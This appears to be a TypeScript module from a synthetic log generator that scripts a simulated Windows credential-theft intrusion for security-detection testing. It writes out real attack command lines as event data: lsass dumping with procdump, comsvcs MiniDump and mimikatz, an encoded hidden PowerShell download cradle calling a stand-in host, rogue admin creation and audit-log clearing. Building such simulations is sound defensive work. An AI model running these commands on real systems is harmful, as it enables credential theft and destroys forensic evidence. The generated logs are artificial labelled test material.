import {
  failedLogon,
  logon,
  processAccessed,
  processCreated,
  sysmonConnection,
} from "../events/windows-entries.ts";
import { windowsEvent } from "../events/windows-event.ts";
import type { WindowsAccount } from "../events/windows-event.ts";
import type { Host } from "../hosts.ts";
import { strangerAddress } from "../routine/internet-noise.ts";
import { serviceInstalled, useWindows, windowsAccount } from "../routine/windows-work.ts";
import { atHost, nextPid, wait } from "../scene.ts";
import type { Scene, Script, Stage } from "../scene.ts";
import { HOUR_MS, MINUTE_MS } from "../../seeded/time.ts";
import { backdrop, momentOf, phase } from "./story.ts";
import type { Story, StoryOptions } from "./story.ts";

interface Cast {
  readonly host: Host;
  readonly as: WindowsAccount;
  /** Another machine of ours that the intruder already holds. */
  readonly fromIp: string;
  readonly dropIp: string;
  readonly tool: string;
  readonly commandLine: string;
  readonly helper: string;
}

const SYSTEM32 = "C:\\Windows\\System32";
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;

/** A stolen administrator logs on, reads credentials out of memory and removes the traces. */
export function windowsCredentialTheft({ world, random, start }: StoryOptions): Story {
  const id = "windows-credential-theft";
  const host = random.pick([...world.hostsOf("winapp"), ...world.hostsOf("sql")]);
  const [tool, commandLine] = random.pick([
    ["C:\\Users\\Public\\procdump64.exe", "procdump64.exe -ma lsass.exe C:\\Users\\Public\\l.dmp"],
    [
      `${SYSTEM32}\\rundll32.exe`,
      "rundll32.exe comsvcs.dll, MiniDump 640 C:\\Users\\Public\\l.dmp full",
    ],
    ["C:\\ProgramData\\mk.exe", 'mk.exe "privilege::debug" "sekurlsa::logonpasswords" exit'],
  ] as const);
  const person = random.pick(world.peopleOf("windows"));
  const cast: Cast = {
    host,
    as: windowsAccount(world, person, random.int(3, 9)),
    fromIp: random.pick(world.hostsOf("winapp").filter((other) => other !== host)).address,
    dropIp: strangerAddress(random),
    tool,
    commandLine,
    helper: random.pick(["helpdesk2", "svc_update", "printadm"]),
  };
  const dumpAt = start + random.int(14, 35) * MINUTE_MS;
  return {
    outcome: {
      id,
      verdict: "attack",
      summary: `${cast.as.user} came from ${cast.fromIp} to ${host.name} and read lsass.exe with ${tool}`,
      facts: [
        { kind: "user", text: cast.as.user },
        { kind: "address", text: cast.fromIp },
        { kind: "host", text: host.name },
        { kind: "tool", text: tool },
        { kind: "object", text: "lsass.exe" },
        { kind: "user", text: cast.helper },
        { kind: "time", text: momentOf(dumpAt) },
      ],
    },
    activities: [
      backdrop(id, { name: "owner", start: start - 5 * HOUR_MS }, (stage) =>
        useWindows(stage, { host, person, programs: 30 }),
      ),
      phase(id, { name: "logon", start }, (stage) => comeIn(stage, cast)),
      phase(id, { name: "dump", start: dumpAt }, (stage) => dump(stage, cast)),
    ],
  };
}

function* comeIn(stage: Stage, { host, as, fromIp, dropIp }: Cast): Script {
  const scene = atHost(stage, host);
  for (let index = 0; index < 12; index += 1) {
    yield failedLogon(scene, as.user, fromIp);
    wait(stage, 1500, 9000);
  }
  yield logon(scene, { as, srcIp: fromIp, logonType: 10 });
  for (const [name, commandLine] of [
    ["whoami.exe", "whoami.exe /all"],
    ["net.exe", 'net.exe group "Domain Admins" /domain'],
    ["nltest.exe", "nltest.exe /dclist:"],
    ["quser.exe", "quser.exe"],
    ["tasklist.exe", "tasklist.exe /svc"],
  ] as const) {
    wait(stage, 5000, 60_000);
    yield started(scene, as, [`${SYSTEM32}\\${name}`, commandLine]);
  }
  const encoded =
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
  yield started(scene, as, [POWERSHELL, `powershell.exe -nop -w hidden -enc ${encoded}`]);
  wait(stage, 300, 2000);
  const remote = { ip: dropIp, port: 443, host: "cdn-update.example" };
  yield sysmonConnection(scene, { as, exe: POWERSHELL, remote });
}

function* dump(stage: Stage, { host, as, tool, commandLine, helper }: Cast): Script {
  const scene = atHost(stage, host);
  yield started(scene, as, [tool, commandLine]);
  const pid = nextPid(scene);
  yield processAccessed(scene, {
    as,
    exe: tool,
    pid,
    targetExe: `${SYSTEM32}\\lsass.exe`,
    access: "0x1FFFFF",
  });
  wait(stage, 200, 3000);
  yield processAccessed(scene, {
    as,
    exe: tool,
    pid,
    targetExe: `${SYSTEM32}\\lsass.exe`,
    access: "0x1410",
  });
  wait(stage, 20_000, 90_000);
  yield started(scene, as, [
    `${SYSTEM32}\\cmd.exe`,
    "cmd.exe /c makecab C:\\Users\\Public\\l.dmp C:\\Users\\Public\\l.cab",
  ]);
  wait(stage, 20_000, 90_000);
  yield serviceInstalled(scene, as, "PSEXESVC");
  wait(stage, 5000, 30_000);
  for (const [id, subtype, summary] of [
    [4720, "User Account Created", "A user account was created."],
    [4732, "Group Membership", "A member was added to a security-enabled local group."],
  ] as const) {
    const details = { "Account Name": helper, Group: "Administrators" };
    yield windowsEvent(scene, {
      id,
      subtype,
      summary,
      as,
      exe: `${SYSTEM32}\\lsass.exe`,
      fields: { sam_account: helper },
      details,
    });
    wait(stage, 1000, 20_000);
  }
  yield started(scene, as, [`${SYSTEM32}\\wevtutil.exe`, "wevtutil.exe cl Security"]);
  wait(stage, 100, 900);
  const summary = "The audit log was cleared.";
  yield windowsEvent(scene, {
    id: 1102,
    subtype: "Log Cleared",
    summary,
    as,
    exe: `${SYSTEM32}\\wevtutil.exe`,
  });
}

function started(
  scene: Scene,
  as: WindowsAccount,
  [exe, commandLine]: readonly [string, string],
): ReturnType<typeof processCreated> {
  return processCreated(scene, { as, exe, commandLine, parentExe: `${SYSTEM32}\\cmd.exe` });
}
